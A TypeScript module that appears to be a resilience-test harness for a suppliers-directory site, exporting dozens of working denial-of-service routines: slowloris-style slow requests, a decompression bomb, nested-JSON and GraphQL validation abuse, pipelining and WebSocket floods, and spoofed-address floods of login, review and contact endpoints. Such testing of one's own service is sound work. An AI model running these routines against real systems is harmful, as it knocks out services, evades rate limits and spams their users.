import { createHash } from 'node:crypto'
import { request } from 'node:http'
import { connect } from 'node:net'
import { brotliCompressSync } from 'node:zlib'
import { setTimeout as wait } from 'node:timers/promises'
import { getIntrospectionQuery } from 'graphql'
import { WebSocket } from 'ws'

/** Sends requests until the signal; `from` is the address reported by a proxy. */
type Attack = (site: { url: URL; from: string }, signal: AbortSignal) => Promise<void>

/** Makes each text unique, so that no cache has it. */
let number = 0
const words = ['blinds', 'curtains leeds', 'roman blinds london', 'shutters kent', 'blnds', 'best repairs near bath']

const headersFor = (from: string) => ({ 'content-type': 'application/json', 'x-forwarded-for': from })

/** Sends as fast as responses arrive, like most attackers; no response ends it. */
const again =
  (send: (site: { url: URL; from: string }, signal: AbortSignal) => Promise<unknown>): Attack =>
  async (site, signal) => {
    while (!signal.aborted) await send(site, signal).catch(() => wait(50))
  }

interface PostedQuery {
  path?: string
  headers?: Record<string, string> | (() => Record<string, string>)
  /** Each request comes from another network, as from a botnet. */
  isFromEverywhere?: boolean
}

const firstNetwork = Math.floor(Math.random() * 200)
const newNetwork = () => `10.${(firstNetwork + (number >> 16)) & 255}.${(number >> 8) & 255}.${number++ & 255}`

const sending = (
  body: () => string | Buffer,
  { path = '/graphql', headers = {}, isFromEverywhere = false }: PostedQuery = {},
) =>
  again(async ({ url, from }, signal) => {
    const all = {
      ...headersFor(isFromEverywhere ? newNetwork() : from),
      ...(typeof headers === 'function' ? headers() : headers),
    }
    const init = { method: 'POST', headers: all, body: body(), redirect: 'manual', signal } as RequestInit
    await (await fetch(new URL(path, url), init)).arrayBuffer()
  })

const posting = (body: () => object, posted?: PostedQuery) => sending(() => JSON.stringify(body()), posted)

const getting = (path: () => string, headers: Record<string, string> = {}) =>
  again(async ({ url, from }, signal) => {
    const init = { headers: { 'x-forwarded-for': from, ...headers }, signal }
    await (await fetch(new URL(path(), url), init)).arrayBuffer()
  })

const notReading = (path: () => string, body?: () => object): Attack =>
  again(
    ({ url, from }, signal) =>
      new Promise<void>((done, fail) => {
        const options = { method: body ? 'POST' : 'GET', headers: headersFor(from), signal, agent: false as const }
        const sent = request(new URL(path(), url), options, (answer) => {
          answer.pause()
          answer.on('close', done)
        })
        sent.on('error', fail)
        sent.end(body && JSON.stringify(body()))
      }),
  )

const overSocket = (isReading: boolean, message: () => object): Attack =>
  again(async ({ url, from }, signal) => {
    const target = new URL('/graphql', url)
    target.protocol = 'ws:'
    const socket = new WebSocket(target, 'graphql-transport-ws', { headers: { 'x-forwarded-for': from } })
    const closed = new Promise((done) => {
      socket.on('close', done)
      socket.on('error', done)
      signal.addEventListener('abort', () => done(socket.terminate()), { once: true })
    })
    socket.on('open', () => {
      socket.send(JSON.stringify({ type: 'connection_init' }))
      if (!isReading) setTimeout(() => socket.pause(), 100)
      const timer = setInterval(() => {
        for (let sent = 0; sent < 20 && socket.bufferedAmount < 1e6; sent++) socket.send(JSON.stringify(message()))
      }, 5)
      socket.on('close', () => clearInterval(timer))
    })
    await closed
    await wait(20)
  })

/** Sends `first`, then `next` every second, as long as the site allows. */
const dribbling = (first: string, next: () => string): Attack =>
  again(
    ({ url, from }, signal) =>
      new Promise<void>((done, fail) => {
        const socket = connect(Number(url.port), url.hostname, () => {
          socket.write(first && `${first}\r\nhost: ${url.host}\r\nx-forwarded-for: ${from}\r\n`)
        })
        const timer = setInterval(() => socket.write(next()), 1000)
        const leave = () => socket.destroy()
        signal.addEventListener('abort', leave, { once: true })
        socket.resume()
        socket.on('error', fail)
        socket.on('close', () => {
          clearInterval(timer)
          signal.removeEventListener('abort', leave)
          setTimeout(done, 50)
        })
      }),
  )

/** With headers that fetch would not send. */
const asking = (method: () => string, path: () => string, headers: () => Record<string, string> = () => ({})): Attack =>
  again(
    ({ url, from }, signal) =>
      new Promise<void>((done, fail) => {
        const options = { method: method(), headers: { 'x-forwarded-for': from, ...headers() }, signal }
        const sent = request(new URL(path(), url), options, (answer) => {
          answer.resume()
          answer.on('end', done)
          answer.on('error', fail)
        })
        sent.on('error', fail)
        sent.end()
      }),
  )

/** A thousand requests at a time on one connection. */
const pipelining = (first: () => string): Attack =>
  again(
    ({ url, from }, signal) =>
      new Promise<void>((done, fail) => {
        const send = () => `${first()}\r\nhost: ${url.host}\r\nx-forwarded-for: ${from}\r\n\r\n`
        const socket = connect(Number(url.port), url.hostname, () => {
          const more = () => {
            if (!socket.destroyed) socket.write(Array.from({ length: 1000 }, send).join(''), () => setTimeout(more, 50))
          }
          more()
        })
        const leave = () => socket.destroy()
        signal.addEventListener('abort', leave, { once: true })
        socket.resume()
        socket.on('error', fail)
        socket.on('close', () => {
          signal.removeEventListener('abort', leave)
          setTimeout(done, 50)
        })
      }),
  )

const leaving = (body: () => object): Attack =>
  again(async ({ url, from }, signal) => {
    const left = AbortSignal.any([signal, AbortSignal.timeout(2)])
    const init = { method: 'POST', headers: headersFor(from), body: JSON.stringify(body()), signal: left }
    await fetch(url, init).catch(() => {})
  })

const withSocket = (act: (socket: WebSocket) => void): Attack =>
  again(async ({ url, from }, signal) => {
    const target = new URL('/graphql', url)
    target.protocol = 'ws:'
    const socket = new WebSocket(target, 'graphql-transport-ws', { headers: { 'x-forwarded-for': from } })
    await new Promise<void>((done, fail) => {
      const timer = setInterval(() => socket.readyState === socket.OPEN && act(socket), 5)
      signal.addEventListener('abort', () => socket.terminate(), { once: true })
      socket.on('error', fail)
      socket.on('close', () => {
        clearInterval(timer)
        done()
      })
    })
  })

const search = () => `${words[number % words.length]} ${number++}`
const subscribing = (query: string) => ({ id: String(number++), type: 'subscribe', payload: { query } })

/** About 19 bytes, which inflate to a megabyte. */
const packed = brotliCompressSync('['.repeat(1_000_000))
const unknownFields = Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`field${index}`, index]))
const longAnswer = () =>
  `{ a${number++}: suppliers(first: 100) { nodes { ${Array.from({ length: 14 }, (_, at) => `d${at}: description`).join(' ')} } } }`
const nothingChanged = [
  'mutation { signOut { isSignedOut } }',
  'mutation { acceptInvitation(input: { token: "x", username: "eve", password: "nothing at all" }) { userErrors { message } } }',
  'mutation { createMessage(input: { name: "", email: "", reason: OTHER, subject: "", message: "" }) { userErrors { message } } }',
]
const madeUpSession = { cookie: 'session=made-up; session.sig=too; __Host-session=x; __Host-session.sig=y' }
const mcp = { path: '/mcp', headers: { accept: 'application/json, text/event-stream' } }
const person = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'
const nestedMessage = `{"type":"ping","payload":{"a":[${'[],'.repeat(15_000)}0]}}`

/** The maximum number of names, in fragments that spread each other. */
const manyFragments = () =>
  `{ ...f0 a${number++}: __typename } ${Array.from({ length: 70 }, (_, at) => `fragment f${at} on Query { ${at < 69 ? `...f${at + 1}` : '__typename'} __typename }`).join(' ')}`
/** Validation compares the repeated fields with each other. */
const manyOverlaps = () => `{ ${'suppliers(first: 1) { nodes { name } } '.repeat(70)} a${number++}: __typename }`
const many = <Entry>(length: number, entry: (at: number) => Entry): Entry[] =>
  Array.from({ length }, (_, at) => entry(at))
const signs = ['%_', '(', 'a', '\u0301', 'ﬃ', '9', 'b l i n d s ', 'GL50 ']
const gibberish = () => many(12, () => Math.random().toString(36).replace(/\d/g, 'e').slice(2, 12)).join(' ')

/** Visitors send it too. */
export const queryOfEveryone = '{ suppliers(first: 100) { nodes { name description openingHours { day } } } }'

export const attacks: Record<string, Attack> = {
  'similar suppliers': posting(() => ({
    query: `{ suppliers(first: 90, filter: { query: "${search()}" }) { nodes { similar(first: 1) { id } } } }`,
  })),
  searches: posting(() => ({
    query: `query ($q: String) { suppliers(first: 100, filter: { query: $q }) { totalCount extent { west } facets { services { count } } nodes { name } } }`,
    variables: { q: search() },
  })),
  maps: posting(() => ({
    query: `{ supplierMap(filter: { query: "${search()}" }, bounds: { west: -8, south: 49, east: 2, north: 60 }, zoom: 9) { latitude } }`,
  })),
  introspection: posting(() => ({ query: `${getIntrospectionQuery()} # ${number++}` })),
  'long texts': posting(() => ({
    query: `{ ${'__typename '.repeat(45)} suppliers(first: 1, filter: { query: "${search().repeat(20)}" }) { totalCount } }`,
  })),
  'new pages': getting(() => `/directory?query=${encodeURIComponent(search())}`),
  'every supplier': getting(() => '/api/suppliers'),
  'sockets that do not read': overSocket(false, () => ({ type: 'ping', payload: { text: 'x'.repeat(60_000) } })),
  'operations over sockets': overSocket(true, () =>
    subscribing(
      `{ suppliers(first: 100, filter: { query: "${search()}" }) { totalCount nodes { name description } } }`,
    ),
  ),
  'idle sockets': dribbling('', () => ''),
  'slow headers': dribbling('GET /suppliers HTTP/1.1', () => `x-${number++}: y\r\n`),
  'slow bodies': dribbling(
    'POST /graphql HTTP/1.1\r\ncontent-type: application/json\r\ncontent-length: 100000',
    () => '\r\n{"query": ',
  ),
  'slow readers': notReading(() => '/api/suppliers'),
  'packed bodies': sending(() => packed, { headers: { 'content-encoding': 'br' } }),
  'deep bodies': sending(
    () => `{"query":"{ a${number++}: __typename }","variables":${'['.repeat(7000)}${']'.repeat(7000)}}`,
  ),
  'wide bodies': sending(() => `{"query":"{ a${number++}: __typename }","variables":{"a":[${'[],'.repeat(20_000)}0]}}`),
  'slow forms': dribbling(
    'POST /contact HTTP/1.1\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 60000',
    () => 'a=b&',
  ),
  'half-sent forms on many connections': again(async ({ url, from }, signal) => {
    const socket = () => connect(Number(url.port), url.hostname)
    const head = `POST /graphql HTTP/1.1\r\nhost: ${url.host}\r\nx-forwarded-for: ${from}\r\ncontent-type: application/json\r\ncontent-length: 65000\r\n\r\n{`
    const sockets = many(10, socket)
    for (const one of sockets)
      one
        .on('error', () => {})
        .resume()
        .write(head)
    await wait(2000, undefined, { signal }).catch(() => {})
    for (const one of sockets) one.destroy()
  }),
  'an answer that everybody wants and nobody reads': notReading(
    () => '/graphql',
    () => ({ query: queryOfEveryone }),
  ),
  'many errors': posting(() => ({
    query: 'mutation ($input: CreateReviewInput!) { createReview(input: $input) { userErrors { message } } }',
    variables: { input: { ...unknownFields, comment: `${number++}${'x'.repeat(60_000)}` } },
  })),
  'long answers': posting(() => ({ query: longAnswer() })),
  'long answers that nobody reads': notReading(
    () => '/graphql',
    () => ({ query: longAnswer() }),
  ),
  'changes of nothing': posting(() => ({ query: nothingChanged[number++ % nothingChanged.length] })),
  'share pictures': getting(() => `/pictures/supplier/${1 + (number++ % 19_000)}.png`),
  'sign-ins from ever new networks': posting(() => ({ username: `nobody ${number}`, password: 'nothing at all' }), {
    path: '/api/auth/login',
    isFromEverywhere: true,
  }),
  'made-up sessions': getting(() => '/counties/kent', madeUpSession),
  'new pages with made-up sessions': getting(() => `/counties/kent?made-up=${number++}`, madeUpSession),
  'queries with cookies': posting(
    () => ({
      query: `{ suppliers(first: 100, filter: { query: "${search()}" }) { totalCount nodes { name description } } }`,
    }),
    { headers: { cookie: 'a=b; session=x; session.sig=y' } },
  ),
  'tools of assistants': posting(() => ({ jsonrpc: '2.0', id: number++, method: 'tools/list' }), mcp),
  'calls of tools': posting(
    () => ({
      jsonrpc: '2.0',
      id: number,
      method: 'tools/call',
      params: { name: 'search_suppliers', arguments: { query: search(), first: 20 } },
    }),
    mcp,
  ),
  'counted searches': posting(
    () => ({
      query: `{ suppliers(first: 1, filter: { query: "${search()}" }) { totalCount droppedWords nodes { id } } }`,
    }),
    { headers: { 'user-agent': person }, isFromEverywhere: true },
  ),
  'messages from ever new networks': posting(
    () => ({
      query: 'mutation ($input: CreateMessageInput!) { createMessage(input: $input) { userErrors { message } } }',
      variables: {
        input: {
          name: 'Eve',
          email: 'victim@example.com',
          reason: 'OTHER',
          subject: 'Hello',
          message: `${number} ${'x'.repeat(4000)}`,
        },
      },
    }),
    { isFromEverywhere: true },
  ),
  'listings for one address': posting(
    () => ({ businessName: `Flood ${number}`, email: `victim+${number}@gmail.com`, phone: '01632 960123' }),
    { path: '/api/business-requests', isFromEverywhere: true },
  ),
  'reviews under one address': posting(
    () => ({
      query: 'mutation ($input: CreateReviewInput!) { createReview(input: $input) { userErrors { message } } }',
      variables: {
        input: {
          supplierId: '1',
          rating: 1,
          comment: `Never again, ${number}: ${'x'.repeat(1900)}`,
          name: 'Eve',
          email: 'victim@example.com',
        },
      },
    }),
    { isFromEverywhere: true },
  ),
  sitemaps: getting(() =>
    number % 2 ? `/sitemaps/suppliers-${number++ % 20_000}.xml` : `/sitemap.xml?again=${number++}`,
  ),
  manuals: getting(() => ['/graphql/reference', '/api/docs', '/api/openapi.json'][number++ % 3]!),
  'nested messages over sockets': overSocket(true, () => JSON.parse(nestedMessage) as object),
  'pages that are nowhere': getting(() => `/nowhere-${words[number % words.length]!.replaceAll(' ', '-')}-${number++}`),
  'cached pages under ever new addresses': getting(() => `/directory?utm_source=${number++}`),
  'methods of all kinds': asking(
    () => ['HEAD', 'OPTIONS', 'PROPFIND', 'DELETE'][number % 4]!,
    () => `/directory?again=${number++}`,
  ),
  'long addresses': getting(() => `/directory?query=${number++}&${'a=%F0%9F%98%80&'.repeat(900)}`),
  'long paths': getting(() => `${'/%2e%2e%2fa'.repeat(1200)}/${number++}/`),
  'many cookies': getting(() => '/directory', { cookie: many(1500, (at) => `c${at}=1`).join('; ') }),
  'many headers': asking(
    () => 'GET',
    () => '/directory',
    () => Object.fromEntries(many(1000, (at) => [`x-h${at}`, '1'])),
  ),
  'many fragments': posting(() => ({ query: manyFragments() })),
  'fields that overlap': posting(() => ({ query: manyOverlaps() })),
  'fields that do not exist': posting(() => ({
    query: `{ ${many(300, (at) => `nothing${at}x${number}`).join(' ')} a${number++} }`,
  })),
  'long lists in variables': posting(() => ({
    query: 'query ($f: SupplierFilter) { suppliers(filter: $f, first: 1) { totalCount } }',
    variables: { f: { query: search(), services: many(6000, () => 'blinds') } },
  })),
  'lists of operations': posting(() => many(500, () => ({ query: `{ a${number++}: __typename }` }))),
  'queries in addresses': getting(
    () =>
      `/graphql?query=${encodeURIComponent(`{ suppliers(first: 100, filter: { query: "${search()}" }) { nodes { name description } } }`)}`,
  ),
  'ever new persisted queries': posting(() => {
    const query = `{ a${number++}: suppliers(first: 1) { totalCount } }`
    const sha256Hash = createHash('sha256').update(query).digest('hex')
    return { query, extensions: { persistedQuery: { version: 1, sha256Hash } } }
  }),
  'multipart bodies': sending(
    () => `--x\r\ncontent-disposition: form-data; name="operations"\r\n\r\n${'a'.repeat(50_000)}\r\n--x--`,
    { headers: { 'content-type': 'multipart/form-data; boundary=x' } },
  ),
  'wide forms': sending(() => many(6000, (at) => `a[${at}]=b`).join('&'), {
    path: '/contact',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  }),
  'tools under ever new headers': posting(() => ({ jsonrpc: '2.0', id: number++, method: 'tools/list' }), {
    path: '/mcp',
    headers: () => ({ accept: `application/json, text/event-stream, text/x-${number++}` }),
  }),
  'beginnings of assistants': posting(
    () => ({
      jsonrpc: '2.0',
      id: number++,
      method: 'initialize',
      params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x'.repeat(5000), version: '1' } },
    }),
    mcp,
  ),
  'pictures of nothing': getting(() => `/pictures/supplier/${99_000_000 + number++}.png`),
  'county pictures': getting(() => `/pictures/counties/${['kent', 'devon', 'nowhere'][number % 3]}.svg?x=${number++}`),
  widgets: getting(() => `/widget/html?query=${encodeURIComponent(search())}`),
  badges: getting(() => `/badge/${1 + (number++ % 19_000)}.svg`),
  feeds: getting(() => ['/blog/feed.xml', '/llms.txt', '/api/changes?first=100', '/robots.txt'][number++ % 4]!),
  'last pages of results': getting(() => `/directory?page=${900 + (number++ % 100)}`),
  'signs as searches': posting(() => ({
    query: 'query ($q: String) { suppliers(first: 20, filter: { query: $q }) { totalCount nodes { id } } }',
    variables: { q: signs[number % signs.length]!.repeat(200).slice(0, 180) + number++ },
  })),
  'misspelt searches': posting(() => ({
    query:
      'query ($q: String) { suppliers(first: 20, filter: { query: $q }) { totalCount droppedWords nodes { id } } }',
    variables: { q: gibberish() },
  })),
  'made-up keys': posting(() => ({ query: `{ a${number++}: suppliers(first: 100) { nodes { name } } }` }), {
    headers: { 'x-api-key': 'made-up-key' },
  }),
  'requests behind each other': pipelining(() => `GET /directory?again=${number++} HTTP/1.1`),
  'cached pages behind each other': pipelining(() => 'GET /directory HTTP/1.1'),
  'sockets that come and go': withSocket((socket) => socket.close()),
  'sockets that say nothing': withSocket(() => {}),
  'pings over sockets': withSocket((socket) => {
    for (let sent = 0; sent < 50 && socket.bufferedAmount < 1e6; sent++) socket.ping('x'.repeat(120))
  }),
  subscriptions: overSocket(true, () => subscribing('subscription { scraperState { status } }')),
  'wide messages over sockets': overSocket(true, () => {
    const { payload, ...message } = subscribing(
      `{ suppliers(first: 100, filter: { query: "${search()}" }) { totalCount } }`,
    )
    return { ...message, payload: { ...payload, variables: { a: many(20_000, () => ({})) } } }
  }),
  'sockets with wide parameters': withSocket((socket) => {
    socket.send(JSON.stringify({ type: 'connection_init', payload: { a: many(20_000, () => ({})) } }))
  }),
  'messages that only a server sends': withSocket((socket) => socket.send('{"type":"connection_ack"}')),
  'completions over sockets': overSocket(true, () => ({ id: String(number++), type: 'complete' })),
  'scripts of widgets': getting(() => '/widget.js'),
  'maps of ever new parts': posting(() => {
    const [west, south] = [-5 + (number % 6000) / 1000, 50 + (number++ % 5000) / 1000]
    const bounds = `{ west: ${west}, south: ${south}, east: ${west + 3}, north: ${south + 3} }`
    return { query: `{ supplierMap(bounds: ${bounds}, zoom: 14) { latitude } }` }
  }),
  'ever new hosts': asking(
    () => 'GET',
    () => '/directory',
    () => ({ host: `host${number++}.example` }),
  ),
  'long chains of proxies': asking(
    () => 'GET',
    () => '/directory',
    () => ({ 'x-forwarded-for': many(1200, () => '1.1.1.1').join(',') }),
  ),
  'files of strangers': dribbling(
    'POST /api/admin/pictures HTTP/1.1\r\ncontent-type: image/png\r\ncontent-length: 1000000000\r\n',
    () => 'x'.repeat(1_000_000),
  ),
  'messages in pieces over sockets': withSocket((socket) => {
    for (let sent = 0; sent < 50 && socket.bufferedAmount < 1e6; sent++) socket.send('', { fin: false })
  }),
  'searches of who leaves': leaving(() => ({
    query: `{ suppliers(first: 100, filter: { query: "${search()}" }) { totalCount nodes { name description } } }`,
  })),
  'lists without their answers': asking(
    () => 'HEAD',
    () => '/api/suppliers',
  ),
}
